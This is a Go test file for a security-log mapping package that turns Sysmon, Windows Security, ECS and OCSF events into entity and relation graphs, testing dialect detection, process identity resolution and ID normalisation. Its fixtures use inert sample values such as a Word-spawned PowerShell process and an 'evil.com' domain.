// TestHandWrittenCoverage: every hand-written ECS and OCSF event yields an
// entity and a relation.
func TestHandWrittenCoverage(t *testing.T) {
	var m schema.Mapper
	for _, f := range []string{"testdata/ecs.ndjson", "testdata/ocsf.ndjson"} {
		evs := readFile(t, f)
		n := 0
		var r schema.Result
		for _, ev := range evs {
			if err := m.Map(ev, &r); err != nil {
				t.Fatal(err)
			}
			if len(r.Entities) > 0 && len(r.Relations) > 0 {
				n++
			}
			checkResult(t, ev, &r)
		}
		t.Logf("%s: %d of %d events yield entities and relations", f, n, len(evs))
		if n != len(evs) {
			t.Errorf("%s: %d of %d", f, n, len(evs))
		}
	}
}

func TestDetect(t *testing.T) {
	ecs := readFile(t, "testdata/ecs.ndjson")
	ocsf := readFile(t, "testdata/ocsf.ndjson")
	cases := []struct {
		ev   *mdr.Event
		want schema.Dialect
	}{
		{sysmon(1), schema.DialectSysmon},
		{win("microsoft-windows-sysmon/operational", "", 3), schema.DialectSysmon},
		{security(4624), schema.DialectSecurity},
		{win("", "Microsoft-Windows-Security-Auditing", 4688), schema.DialectSecurity},
		{win("System", "Service Control Manager", 7045), schema.DialectSystem},
		{win("Windows PowerShell", "PowerShell", 800), schema.DialectPowerShell},
		{win("Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 106), schema.DialectWindows},
		{ecs[0], schema.DialectECS},
		{ocsf[0], schema.DialectOCSF},
		{mdr.NewEvent(mdr.Origin{}, mdr.Field{Key: "@timestamp", Value: mdr.String("2026-01-01T00:00:00Z")}, mdr.Field{Key: "process.pid", Value: mdr.Int(1)}), schema.DialectECS},
		{mdr.NewEvent(mdr.Origin{}, mdr.Field{Key: "type", Value: mdr.String("SYSCALL")}, mdr.Field{Key: "pid", Value: mdr.String("1")}), schema.DialectAuditd},
		{mdr.NewEvent(mdr.Origin{}, mdr.Field{Key: "message", Value: mdr.String("hello")}), schema.DialectUnknown},
		{nil, schema.DialectUnknown},
	}
	for i, c := range cases {
		if got := schema.Detect(c.ev); got != c.want {
			t.Errorf("case %d: Detect = %s, want %s", i, got, c.want)
		}
	}
	for _, d := range schema.Dialects {
		back, err := schema.ParseDialect(d.String())
		if err != nil || back != d {
			t.Errorf("ParseDialect(%q) = %v, %v", d, back, err)
		}
	}
	if _, err := schema.ParseDialect("cef"); !errors.Is(err, schema.ErrUnknownDialect) || !errors.Is(err, mdr.ErrInvalid) {
		t.Errorf("ParseDialect(cef) error %v", err)
	}
}

// TestProcessIdentity checks that one process keeps one id across events
// and sources.
func TestProcessIdentity(t *testing.T) {
	m := schema.Mapper{Processes: schema.NewProcessTable(100)}
	var r schema.Result
	mapIt := func(ev *mdr.Event) []string {
		t.Helper()
		if err := m.Map(ev, &r); err != nil {
			t.Fatal(err)
		}
		return rels(&r)
	}
	// Parent's own Sysmon 1, then the child's Sysmon 1 naming it as parent.
	mapIt(sysmon(1, "ProcessGuid", wordGUID, "ProcessId", "2200", "Image", `C:\x\WINWORD.EXE`, "UtcTime", "2026-03-02 09:10:00.000"))
	parentID := r.Entities[0].ID
	got := mapIt(sysmon(1, "ProcessGuid", psGUID, "ProcessId", "4312", "Image", psImage, "UtcTime", "2026-03-02 09:14:03.120",
		"ParentProcessGuid", strings.ToLower(strings.Trim(wordGUID, "{}")), "ParentProcessId", "2200"))
	if !slices.Contains(got, "spawned "+parentID+" -> "+psID) {
		t.Errorf("parent id differs from its own creation event: %q vs %q", parentID, got)
	}
	// A Security 4688 of the same creation (pid in hex, time within the
	// tolerance) joins the Sysmon id; its child names it by pid only.
	ev4688 := win(securityCh, "Microsoft-Windows-Security-Auditing", 4688, "NewProcessId", "0x10d8", "NewProcessName", psImage, "ProcessId", "0x898")
	got = mapIt(ev4688)
	if !slices.Contains(got, "executed "+psID+` -> file:ws-042.corp.example\c:\windows\system32\windowspowershell\v1.0\powershell.exe`) {
		t.Errorf("4688 of a process seen by Sysmon did not reuse its ProcessGuid id: %q", got)
	}
	if !slices.Contains(got, "spawned "+parentID+" -> "+psID) {
		t.Errorf("4688 creator pid not resolved to the parent's id: %q", got)
	}
	// A WFP 5156 naming the PowerShell pid resolves to the same process.
	got = mapIt(security(5156, "ProcessID", "4312", "DestAddress", "203.0.113.80", "DestPort", "443"))
	if !slices.Contains(got, "connected "+psID+" -> ip:203.0.113.80:443") {
		t.Errorf("5156 pid not resolved: %q", got)
	}
	// A process Sysmon names by ProcessGuid and pid without its creation (a
	// network connection) is found again by pid alone.
	mapIt(sysmon(3, "ProcessGuid", "{A1B2C3D4-0001-0000-0000-0000000003E7}", "ProcessId", "999", "Image", `C:\svc.exe`,
		"DestinationIp", "10.0.0.1", "DestinationPort", "53"))
	got = mapIt(win(securityCh, "", 4688, "TimeCreated", "2026-03-02T09:20:00Z", "NewProcessId", "0x2000", "NewProcessName", `C:\c.exe`, "ProcessId", "0x3e7"))
	if !slices.Contains(got, "spawned process:a1b2c3d4-0001-0000-0000-0000000003e7 -> process:ws-042.corp.example:8192@2026-03-02T09:20:00.000Z") {
		t.Errorf("4688 creator not resolved through a Sysmon reference: %q", got)
	}
	// Without Sysmon: a 4688 chain keeps host+pid+time ids.
	m2 := schema.Mapper{Processes: schema.NewProcessTable(100)}
	a := win(securityCh, "", 4688, "Computer", "SRV1", "TimeCreated", "2026-03-02T10:00:00Z", "NewProcessId", "0x100", "NewProcessName", `C:\a.exe`, "ProcessId", "0x4")
	b := win(securityCh, "", 4688, "Computer", "SRV1", "TimeCreated", "2026-03-02T10:00:05Z", "NewProcessId", "0x200", "NewProcessName", `C:\b.exe`, "ProcessId", "0x100")
	if err := m2.Map(a, &r); err != nil {
		t.Fatal(err)
	}
	if err := m2.Map(b, &r); err != nil {
		t.Fatal(err)
	}
	got = rels(&r)
	want := "spawned process:srv1:256@2026-03-02T10:00:00.000Z -> process:srv1:512@2026-03-02T10:00:05.000Z"
	if !slices.Contains(got, want) {
		t.Errorf("4688 chain: missing %q in %q", want, got)
	}
	// Without a table, the zero Mapper is stateless: the parent has no time.
	r2, err := schema.Extract(b)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(rels(&r2), "spawned process:srv1:256 -> process:srv1:512@2026-03-02T10:00:05.000Z") {
		t.Errorf("stateless 4688: %q", rels(&r2))
	}
}

func TestProcessTableBound(t *testing.T) {
	tb := schema.NewProcessTable(10)
	t0 := time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC)
	for i := range 100 {
		tb.Put("h", int64(i), t0.Add(time.Duration(i)*time.Second), fmt.Sprintf("process:h:%d", i))
	}
	if tb.Len() > 10 {
		t.Errorf("table holds %d entries, bound 10", tb.Len())
	}
	if tb.Dropped() == 0 {
		t.Error("nothing counted as dropped")
	}
	if id, ok := tb.Lookup("H", 99, t0.Add(time.Hour)); !ok || id != "process:h:99" {
		t.Errorf("Lookup latest = %q, %v", id, ok)
	}
	if _, ok := tb.Lookup("h", 99, t0); ok {
		t.Error("Lookup before the process started should miss (pid reuse)")
	}
	if _, ok := tb.Lookup("h", 1, t0.Add(time.Hour)); ok {
		t.Error("evicted entry still found")
	}
}

func TestMissingField(t *testing.T) {
	ev := mdr.NewEvent(mdr.Origin{Source: "bad.jsonl", Line: 7},
		mdr.Field{Key: "EventID", Value: mdr.Int(1)}, mdr.Field{Key: "Channel", Value: mdr.String(sysmonCh)},
		mdr.Field{Key: "Computer", Value: mdr.String("WS1")}, mdr.Field{Key: "Image", Value: mdr.String(`C:\a.exe`)})
	r, err := schema.Extract(ev)
	var ee *schema.EventError
	if !errors.As(err, &ee) || !errors.Is(err, schema.ErrMissingField) || !errors.Is(err, mdr.ErrInvalid) {
		t.Fatalf("error %v, want an EventError wrapping ErrMissingField", err)
	}
	if !strings.Contains(err.Error(), "bad.jsonl:7") || !strings.Contains(err.Error(), "ProcessGuid") || ee.Code != "1" {
		t.Errorf("error does not say where and what: %v", err)
	}
	if _, ok := r.Entity("host:ws1"); !ok {
		t.Errorf("the host should still be derived: %+v", r.Entities)
	}
	// Unsupported kinds are not errors.
	r, err = schema.Extract(win("Microsoft-Windows-TaskScheduler/Operational", "x", 106))
	if err != nil || r.Supported || len(r.Entities) != 0 {
		t.Errorf("unsupported event: %v %+v", err, r)
	}
	if r, err := schema.Extract(nil); err != nil || r.Supported {
		t.Errorf("nil event: %v %+v", err, r)
	}
}

func TestIDs(t *testing.T) {
	cases := [][2]string{
		{schema.HostID("WS-042.Corp"), "host:ws-042.corp"},
		{schema.UserID("CORP", "Alice"), `user:corp\alice`},
		{schema.UserID("", "root"), "user:root"},
		{schema.ProcessGUIDID("{0197231E-9BE6-6934-5301-000000000B00}"), "process:0197231e-9be6-6934-5301-000000000b00"},
		{schema.ProcessGUIDID("0197231e-9be6-6934-5301-000000000b00"), "process:0197231e-9be6-6934-5301-000000000b00"},
		{schema.ProcessPIDID("PC01", 6699, time.Time{}), "process:pc01:6699"},
		{schema.ProcessPIDID("PC01", 6699, time.Date(2026, 3, 2, 9, 0, 0, 123456789, time.UTC)), "process:pc01:6699@2026-03-02T09:00:00.123Z"},
		{schema.FileID("PC01", `C:\Windows\System32\CMD.EXE`), `file:pc01\c:\windows\system32\cmd.exe`},
		{schema.FileID("web01", "/tmp/X"), "file:web01:/tmp/X"},
		{schema.EndpointID("10.0.0.5", "445"), "ip:10.0.0.5:445"},
		{schema.EndpointID("10.0.0.5", ""), "ip:10.0.0.5"},
		{schema.EndpointID("FE80::1", "80"), "ip:[fe80::1]:80"},
		{schema.DomainID("Evil.COM."), "domain:evil.com"},
		{schema.RegistryID(`HKLM\SOFTWARE\Run`), `reg:HKLM\software\run`},
		{schema.RegistryID(`\REGISTRY\MACHINE\SOFTWARE\Run`), `reg:HKLM\software\run`},
		{schema.RegistryID(`\REGISTRY\USER\S-1-5-21-1\Software`), `reg:HKU\s-1-5-21-1\software`},
		{schema.RegistryID(`HKEY_CURRENT_USER\Software`), `reg:HKCU\software`},
		{schema.ServiceID("PC01", "WinUpd"), `service:pc01\winupd`},
		{schema.TaskID("PC01", `Microsoft\Upd`), `task:pc01\microsoft\upd`},
		{schema.PipeID("PC01", `\LSARPC`), `pipe:pc01\lsarpc`},
		{schema.ShareID("PC01", `\\*\C$`), `share:pc01\c$`},
		{schema.GroupID("Builtin", "Administrators"), `group:builtin\administrators`},
		{schema.NormalizeGUID(" {ABC-D} "), "abc-d"},
		{schema.UserID("ÉQUIPE", "Zoë"), `user:équipe\zoë`},
	}
	for _, c := range cases {
		if c[0] != c[1] {
			t.Errorf("got %q, want %q", c[0], c[1])
		}
	}
}

// TestConcurrentMap maps the same events from several goroutines with one
// shared Mapper and table; results must equal the sequential ones.
func TestConcurrentMap(t *testing.T) {
	evs := append(readFile(t, "testdata/ecs.ndjson"), readFile(t, "testdata/ocsf.ndjson")...)
	m := schema.Mapper{Processes: schema.NewProcessTable(1000)}
	want := make([][]string, len(evs))
	for i, ev := range evs {
		r, err := schema.Extract(ev)
		if err != nil {
			t.Fatal(err)
		}
		want[i] = rels(&r)
	}
	var wg sync.WaitGroup
	errs := make(chan string, 8)
	for range 4 {
		wg.Go(func() {
			var r schema.Result
			for rep := 0; rep < 50; rep++ {
				for i, ev := range evs {
					if err := m.Map(ev, &r); err != nil {
						errs <- err.Error()
						return
					}
					if !slices.Equal(rels(&r), want[i]) {
						errs <- fmt.Sprintf("event %s: %q != %q", ev.ID(), rels(&r), want[i])
						return
					}
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Error(e)
	}
}

func TestMain(m *testing.M) { os.Exit(m.Run()) }

func TestResultReuse(t *testing.T) {
	var m schema.Mapper
	var r schema.Result
	if err := m.Map(sysmon(11, "ProcessGuid", psGUID, "ProcessId", "1", "TargetFilename", `C:\a.txt`), &r); err != nil {
		t.Fatal(err)
	}
	keep := r.Clone()
	if err := m.Map(security(4634, "TargetUserName", "bob", "TargetDomainName", "CORP"), &r); err != nil {
		t.Fatal(err)
	}
	if r.Dialect != schema.DialectSecurity || r.Code != "4634" || len(r.Relations) != 1 {
		t.Errorf("reused result not reset: %+v", r)
	}
	if keep.Dialect != schema.DialectSysmon || len(keep.Relations) == 0 || keep.Relations[len(keep.Relations)-1].Kind != mdr.RelWroteFile {
		t.Errorf("clone changed by the next Map: %+v", keep)
	}
	if _, ok := keep.Entity(`file:ws-042.corp.example\c:\a.txt`); !ok {
		t.Errorf("clone lost its entities: %+v", keep.Entities)
	}
}

func TestKindOfID(t *testing.T) {
	for id, want := range map[string]mdr.EntityKind{
		schema.HostID("a"): mdr.EntityHost, schema.GroupID("b", "c"): mdr.EntityAccount, schema.SIDID("S-1-5-18"): mdr.EntityAccount,
		schema.EndpointID("1.2.3.4", "80"): mdr.EntityNetworkEndpoint, schema.TaskID("h", "t"): mdr.EntityScheduledTask,
		"nonsense": mdr.EntityUnknown, "what:ever": mdr.EntityUnknown,
	} {
		if got := schema.KindOfID(id); got != want {
			t.Errorf("KindOfID(%q) = %s, want %s", id, got, want)
		}
	}
}
